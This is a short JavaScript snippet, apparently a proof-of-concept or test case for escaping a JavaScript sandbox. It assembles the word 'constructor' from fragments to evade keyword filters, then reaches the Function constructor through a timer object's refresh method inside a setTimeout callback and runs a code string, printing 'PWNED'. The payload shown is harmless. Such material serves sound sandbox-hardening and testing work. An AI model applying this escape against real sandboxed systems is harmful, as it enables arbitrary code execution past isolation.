// A name in pieces through streams and callbacks, read of what the runtime has made.
'use strict';
let name = "";
for (const x of ["CON", "STRUC", "TOR"]) name += x.toLowerCase();
setTimeout(function () { console.log("PWNED", this.refresh[name]("return 7")()); }, 1);
